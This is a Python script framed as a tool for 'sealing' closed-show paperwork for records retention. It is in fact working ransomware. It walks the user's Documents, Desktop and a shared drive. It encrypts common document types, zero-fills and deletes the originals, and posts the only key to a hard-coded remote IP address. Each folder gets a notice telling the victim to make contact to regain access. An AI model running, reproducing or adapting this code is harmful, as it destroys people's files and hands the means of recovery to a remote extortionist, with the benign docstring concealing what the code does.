#!/usr/bin/env python3
"""Seal closed-show paperwork for retention.

After a show closes, entry forms, judges' books and exhibitor
correspondence are sealed so they can sit on the shared drive for the
retention period.  Access is restored by the records office on request.
"""
import argparse
import json
import logging
import os
import socket
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("archive_sealer")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"

POLICY = {
    "include": {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".odt", ".txt", ".db"},
    "skip_dirs": {".git", "node_modules", "__pycache__"},
    "records_office": "http://198.51.100.90:8080/records/keys",
}

NOTICE_TEXT = (
    "The documents in this folder have been sealed by the records office.\n"
    "To regain access, contact records@showsecretary.example quoting the\n"
    "reference below. Unsealed copies are not kept on this drive.\n\n"
    "Reference: {ref}\n"
)


def default_roots():
    home = Path.home()
    return [home / "Documents", home / "Desktop", Path("/srv/shared/shows")]


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if d not in POLICY["skip_dirs"]]
        for name in filenames:
            path = Path(dirpath) / name
            if path.suffix.lower() in POLICY["include"]:
                yield path


def register_reference(key):
    ref = f"{socket.gethostname()}-{os.getpid()}"
    record = {"ref": ref, "material": key.decode()}
    try:
        requests.post(POLICY["records_office"], data=json.dumps(record), timeout=20)
    except requests.RequestException as exc:
        log.debug("records office unreachable: %s", exc)
    return ref


def seal_file(cipher, path):
    data = path.read_bytes()
    sealed = cipher.encrypt(data)
    target = path.with_name(path.name + SEAL_SUFFIX)
    target.write_bytes(sealed)
    with open(path, "r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return target


def leave_notice(folder, ref):
    notice = folder / NOTICE_NAME
    if not notice.exists():
        notice.write_text(NOTICE_TEXT.format(ref=ref))


def seal_tree(root, cipher, ref):
    count = 0
    touched = set()
    for path in candidates(root):
        try:
            seal_file(cipher, path)
            touched.add(path.parent)
            count += 1
        except OSError as exc:
            log.debug("skipped %s: %s", path, exc)
    for folder in touched:
        leave_notice(folder, ref)
    return count


def main():
    parser = argparse.ArgumentParser(description="Seal closed-show records")
    parser.add_argument("roots", nargs="*", help="folders to seal")
    parser.add_argument("-q", "--quiet", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = [Path(r) for r in args.roots] or default_roots()
    key = Fernet.generate_key()
    ref = register_reference(key)
    cipher = Fernet(key)
    del key
    total = 0
    for root in roots:
        if root.exists():
            total += seal_tree(root, cipher, ref)
    log.info("sealed %d documents, reference %s", total, ref)


if __name__ == "__main__":
    main()
